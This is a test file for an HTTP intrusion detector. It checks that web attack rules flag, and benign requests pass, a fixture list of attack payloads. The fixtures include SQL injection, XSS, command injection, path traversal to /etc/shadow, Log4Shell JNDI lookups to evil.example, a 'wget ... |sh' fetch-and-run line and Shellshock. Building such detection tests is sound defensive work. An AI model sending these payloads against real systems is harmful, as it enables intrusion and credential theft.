import { describe, expect, test } from "bun:test";
import type { Observation } from "../engine/events.ts";
import { matchWebAttacks, mayMatchWebAttack, normalizeRequestText, WEB_ATTACK_RULES } from "./http-attack-rules.ts";
import { createHttpAttackDetector, mayMatchRequestLine, requestLineLength, requestLineOf, requestParts } from "./http-attack.ts";
import { fixture, flow, meta } from "./testing.ts";

const kinds = (raw: string) => matchWebAttacks(normalizeRequestText(raw)).map((m) => m.kind);
const request = (uri: string, userAgent = "curl/8.5.0", flowId = "7"): Observation => ({
  kind: "http",
  meta: meta({ ts: 1000, srcIp: "10.0.0.66", dstIp: "10.0.0.80", srcPort: 50000, dstPort: 8080, ipProtocol: 6, flowId }),
  msg: { isRequest: true, method: "GET", uri, version: "1.1", userAgent },
});
const bytes = (s: string) => new Uint8Array([...s].map((c) => c.charCodeAt(0)));

/** Request texts a rule matches, one or more per rule (each test below checks them). */
const ATTACKS = [
  "/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit",
  "/item.php?id=1'%20OR%20'a'%3D'a", "/p?id=1%2527%20UNION%2F**%2FSELECT%20password%20FROM%20users", "/login?u=admin'--%20",
  "/search?q=1;WAITFOR%20DELAY%20'0:0:5'", "/DVWA-master/vulnerabilities/xss_d/?default=English%3Cscript%3Ealert(1)%3C/script%3E",
  "/c?x=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", "/0hXC6ZUE.pl|dir", "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/issue",
  "/x.php?cmd=%24(id)", "/../../../../../../../../../../../../etc/shadow", "/static/..%2f..%2f..%2fwindows/win.ini",
  "/?q=${jndi:ldap://evil.example/a}", "/?q=${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
  "/a?id=1 union select 1", "/a?id=1' or 1=1", "/a?x=sleep(5)", "/a?x=extractvalue(1,2)", "/a?x=information_schema.tables",
  "/a?x=1;drop table users", "/a?x=<script>", "/a?x=<a onclick=x>", "/a?u=javascript:x", "/a?x=<iframe src=x>",
  "/a?x=document.cookie", "/a?x=;cat /etc/passwd", "/bin/sh", "/a?x=cmd /c dir", "/a?x=powershell -enc", "/a?x=system(1)",
  "/a?x=<?php", "/a?x=O:8:\"stdClass\":0:{}", "/a?x=wget http://x/y|sh", "() { :; }; echo", "/a/../../b", "/a?f=/etc/passwd",
  "/a?f=boot.ini", "/a?f=/proc/self/environ", "/a?x=jndi:ldap://x/", "/A?ID=1 UNION SELECT 1", "/a?x=UN/**/ION SELECT",
  "/a?x=un\0ion select 1", "/a?x=WIN.INİ",
];

describe("web attack rules", () => {
  test("the trigger test passes every text a rule matches (whole, in parts, and upper-cased)", () => {
    const texts = ATTACKS.flatMap((a) => [a, `GET ${a} HTTP/1.1`, a.toUpperCase(), ...a.split(/[?&=]/)]);
    const matchedRules = new Set<string>();
    for (const t of texts) {
      const normalized = normalizeRequestText(t);
      for (const r of WEB_ATTACK_RULES) {
        if (!r.re.test(normalized)) continue;
        matchedRules.add(r.name);
        expect(mayMatchWebAttack(t)).toBe(true);
      }
    }
    // Every rule is among the matches above.
    expect(WEB_ATTACK_RULES.filter((r) => !matchedRules.has(r.name)).map((r) => r.name)).toEqual([]);
    // Plain request lines and header values pass no rule and trip no trigger.
    for (const t of ["GET /index.html HTTP/1.1", "GET /static/app.3f9a2c.js HTTP/1.1", "Mozilla/5.0", "text/html", "/watch?v=dQw4w9WgXcQ"]) {
      expect(mayMatchWebAttack(t)).toBe(false);
    }
  });

  test("the trigger test of a request line's parts says what the test of the whole line says", () => {
    const methods = ["GET", "POST", "G;T", "jndi"];
    const uris = ["/index.html", "/", "", ...ATTACKS, "/a/b.", "bin/", "/etc"];
    // Versions that make a trigger only with the "HTTP/" before them ("/bin/", "/etc/", "/proc/self").
    const versions = ["1.1", "1.0", "2", "bin/sh", "etc/x", "proc/self", "PROC/SELF", ".1", "1.1 (", "undefined"];
    let triggered = 0;
    for (const method of methods) {
      for (const uri of uris) {
        for (const version of versions) {
          const whole = mayMatchWebAttack(`${method} ${uri} HTTP/${version}`);
          expect(mayMatchRequestLine(method, uri, version)).toBe(whole);
          if (whole) triggered++;
        }
      }
    }
    expect(triggered).toBeGreaterThan(0);
    expect(mayMatchRequestLine("GET", "/index.html", "bin/sh")).toBe(true);
  });

  test("the request line is found on the bytes as the text test finds it", () => {
    for (const line of [
      "GET / HTTP/1.1\r\n", "GET /x HTTP/1.0", "POST /a?b=c HTTP/2\r\nHost: x\r\n", "GET  / HTTP/1.1\r\n", "GET /\tx HTTP/1.1\r\n",
      "GET /x\u00a0y HTTP/1.1\r\n", "GET /x HTTP/\r\n", "GET /x HTTP/x", "GET /x\r\n HTTP/1.1", "GETTING /x HTTP/1.1", "get /x HTTP/1.1",
      "OPTIONS * HTTP/1.1\r\n", "GET /x HTTPS/1.1", "GET /x HTTP/1", "GET", "TOOLONGMETHOD / HTTP/1.1", "GET /x http/1.1",
    ]) {
      const b = bytes(line);
      const text = requestLineOf(b);
      const n = requestLineLength(b);
      expect(n < 0 ? null : line.slice(0, n)).toBe(text);
    }
  });

  test.each([
    ["/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit", "sql_injection"],
    ["/item.php?id=1'%20OR%20'a'%3D'a", "sql_injection"],
    ["/p?id=1%2527%20UNION%2F**%2FSELECT%20password%20FROM%20users", "sql_injection"], // double-encoded, comment-split
    ["/login?u=admin'--%20", "sql_injection"],
    ["/search?q=1;WAITFOR%20DELAY%20'0:0:5'", "sql_injection"],
    ["/DVWA-master/vulnerabilities/xss_d/?default=English%3Cscript%3Ealert(1)%3C/script%3E", "xss"],
    ["/c?x=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", "xss"],
    ["/0hXC6ZUE.pl|dir", "command_injection"],
    ["/cgi-bin/ping?host=127.0.0.1;cat%20/etc/issue", "command_injection"],
    ["/x.php?cmd=%24(id)", "command_injection"],
    ["/index.php?rush=%6c%73%20%2d%61%6c&highlight=%2527.%70%61%73%73%74%68%72%75%28%24%48%54%54%50%5f%47%45%54%5f%56%41%52%53%5b%72%75%73%68%5d%29.%2527", "command_injection"],
    ["/../../../../../../../../../../../../etc/shadow", "path_traversal"],
    ["/static/..%2f..%2f..%2fwindows/win.ini", "path_traversal"],
    ["/?q=${jndi:ldap://evil.example/a}", "log4shell"],
    ["/?q=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7Blower%3Al%7Ddap%3A%2F%2Fx.example%2Fa%7D", "log4shell"], // ${${lower:j}ndi:${lower:l}dap:...}
    ["/?q=${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", "log4shell"],
  ])("%s -> %s", (uri, kind) => {
    expect(kinds(`GET ${uri} HTTP/1.1`) as string[]).toContain(kind);
  });

  test.each([
    "/", "/index.html", "/search?q=select+the+best+laptop+from+our+shop", "/wiki/Union_(set_theory)",
    "/api/v1/devices?limit=50&offset=100&sort=-lastSeen", "/blog/2024/05/how-to-cat-a-file-in-linux",
    "/cart?item=O%27Brien%27s+Irish+Pub", "/static/app.3f9a2c.js", "/img/logo.svg?v=2", "/watch?v=dQw4w9WgXcQ&t=42s",
    "/search?q=rock+%26+roll", "/docs/script-tags-explained", "/files/report%20final.pdf", "/a;jsessionid=1A2B3C4D?x=1",
    "/login?next=%2Faccount%2Fsettings", "/q?expr=a%3D1%26b%3D2", "/api?filter=id=5;type=7",
  ])("normal request stays clean: %s", (uri) => {
    expect(kinds(`GET ${uri} HTTP/1.1`)).toEqual([]);
  });

  test("bad escapes and hostile lengths never throw", () => {
    expect(() => normalizeRequestText("%%%zz%4" + "%25".repeat(10_000))).not.toThrow();
    expect(kinds("GET /%E0%A4%A HTTP/1.1")).toEqual([]);
  });
});

describe("HTTP attack detector", () => {
  test("one SQLi request raises sql_injection from the client, with the rule and the request as evidence", () => {
    const { store, settings } = fixture();
    const d = createHttpAttackDetector(store, settings);
    d.observe!(request("/index.html"));
    expect(store.size).toBe(0);
    d.observe!(request("/item?id=1%27+union+select+null%2Cpassword+from+users%23"));
    const [t] = store.list();
    expect(t).toMatchObject({ type: "sql_injection", sourceIp: "10.0.0.66", targetIp: "10.0.0.80", targetPort: 8080, severity: "high" });
    expect(t.evidence.rules).toContain("sqli-union-select");
    expect((t.evidence.sampleRequests as string[])[0]).toContain("GET /item?id=1%27+union");
  });

  test("Log4Shell in a header and the body is read from the raw request; the same request seen twice counts once", () => {
    const { store, settings } = fixture();
    const d = createHttpAttackDetector(store, settings);
    const raw = "POST /log4shell/login HTTP/1.1\r\nHost: 10.0.0.80:8080\r\nX-Api-Version: ${jndi:ldap://10.0.0.99:1389/a}\r\n" +
      "Content-Type: application/x-www-form-urlencoded\r\n\r\nuname=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.99%3A1389%2Fa%7D&password=";
    const f = flow({ id: "42", srcIp: "10.0.0.66", dstIp: "10.0.0.80", dstPort: 8080 });
    d.payload(f, bytes(raw), true, 1000);
    const post = request("/log4shell/login", "Mozilla/5.0", "42");
    d.observe!({ kind: "http", meta: post.meta, msg: { isRequest: true, method: "POST", uri: "/log4shell/login", version: "1.1" } });
    const [t] = store.list();
    expect(t).toMatchObject({ type: "log4shell", severity: "critical", count: 1 });
    expect(t.evidence.requests).toBe(1);
    // Replies and non-HTTP bytes are ignored.
    d.payload(f, bytes("HTTP/1.1 200 OK\r\n\r\n<script>x</script>"), false, 1001);
    d.payload(f, new Uint8Array([0x16, 0x03, 0x01, 0x00, 0x05, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]), true, 1001);
    expect(store.size).toBe(1);
  });

  test("a cookie full of quotes and hashes is not SQL injection; only header-wide rules apply there", () => {
    const parts = requestParts(bytes("GET / HTTP/1.1\r\nCookie: pref='dark'#;x=\"a\" or 1=1\r\nAccept: */*\r\n\r\n"))!;
    expect(parts.parts.filter((p) => p.headerOnly).length).toBe(2);
    const { store, settings } = fixture();
    const d = createHttpAttackDetector(store, settings);
    d.payload(flow({ id: "9" }), bytes("GET / HTTP/1.1\r\nCookie: pref='dark'#;x=\"a\" or 1=1\r\n\r\n"), true, 1000);
    expect(store.size).toBe(0);
  });

  test("state stays under the cap", () => {
    const { store, settings } = fixture({ maxTrackedKeys: 50 });
    const d = createHttpAttackDetector(store, settings);
    for (let i = 0; i < 2000; i++) {
      d.observe!({ ...request(`/?q=<script>${i}</script>`, "x", String(i)), meta: meta({ srcIp: `10.1.${i >> 8}.${i & 255}`, dstIp: "10.0.0.80", flowId: String(i) }) });
    }
    expect(d.tracked()).toBeLessThanOrEqual(100);
  });
});
